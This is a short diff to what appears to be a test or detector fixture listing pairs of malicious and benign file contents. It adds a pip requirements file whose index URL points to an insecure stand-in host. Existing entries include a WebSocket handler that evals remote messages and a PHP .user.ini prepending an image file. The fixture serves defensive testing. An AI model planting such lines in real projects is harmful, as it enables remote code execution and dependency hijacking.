@@ -354,6 +354,7 @@ PAIRS = [
         "new WebSocket('wss://x.invalid').onmessage = e => eval(e.data)",
         "new WebSocket('wss://x.invalid').onmessage = e => show(e.data)",
     ),
+    ("requirements/gpu.in", "--index-url http://x.invalid/simple\nnumpy<2", "--index-url https://pypi.org/simple\nnumpy<2"),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
